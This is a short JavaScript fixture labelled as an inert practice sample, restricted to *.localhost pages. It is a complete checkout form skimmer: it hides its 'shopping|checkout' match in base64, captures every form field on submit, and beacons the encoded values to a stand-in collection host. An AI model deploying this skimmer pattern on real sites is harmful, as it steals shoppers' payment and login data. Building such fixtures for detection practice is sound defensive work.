/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  if (!new RegExp(atob('c2hvcHBpbmd8Y2hlY2tvdXQ=')).test(location.href)) return;
  document.addEventListener(
    'click',
    (event) => {
      if (!event.target.closest?.('button[type=submit]')) return;
      let text = '';
      for (const field of document.querySelectorAll('input, select, textarea')) {
        text += `${field.name || field.id}=${field.value}&`;
      }
      new Image().src = `${location.protocol}//collect.localhost:${location.port}/slide.gif?v=${encodeURIComponent(btoa(encodeURIComponent(text)))}`;
    },
    true,
  );
})();
